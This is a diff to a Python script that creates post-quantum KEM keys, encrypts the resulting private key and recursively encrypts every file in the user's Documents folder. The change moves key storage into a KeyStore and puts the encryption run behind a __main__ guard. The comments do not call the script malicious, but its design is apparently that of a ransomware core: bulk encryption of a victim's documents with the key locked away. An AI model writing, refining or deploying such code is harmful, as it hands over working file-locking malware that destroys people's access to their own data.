@@ -4,6 +4,7 @@ from platformdirs import user_documents_dir
 from mceliece_kem import ML_MCELIECE_1024_CLASS as ML_KEM_1024
 import hashlib
 import base64
+from keystore import KeyStore, DEFAULT_PATH, KIND_KEM_PRIVATE, KIND_KEM_CIPHERTEXT
 
 def encryption(folderpath):
     # 1. Generation of public and private keys
@@ -25,14 +26,9 @@ def encryption(folderpath):
     # 4. Encryption with K2 of private key
     f2 = Fernet(K2)
     privateKey = f2.encrypt(privateKey)
-    # 5. Store encrypted private Key and encrypted K1
-    file = open("privateKey.bin", "wb")
-    file.write(privateKey)  
-    file.close()
-    
-    file = open("encapK1.bin", "wb")
-    file.write(encapK1) 
-    file.close()  
+    # 5. Store encrypted private Key and encrypted K1 together (one commit, same creation time)
+    with KeyStore(DEFAULT_PATH) as store:
+        store.put_many([(KIND_KEM_PRIVATE, privateKey), (KIND_KEM_CIPHERTEXT, encapK1)])
 
     # 6. Encrypt target folder
     auxEncryption(K1,folderpath)  
@@ -57,6 +53,7 @@ def auxEncryption(K1,folderpath):
         elif os.path.isdir(currentPath):
             auxEncryption(K1,currentPath) # Recursivity for subfolders
 # ENCRYPTION OF FOLDER
-folderpath = user_documents_dir()
-print(folderpath)
-encryption(folderpath)
\ No newline at end of file
+if __name__ == "__main__":
+    folderpath = user_documents_dir()
+    print(folderpath)
+    encryption(folderpath)
\ No newline at end of file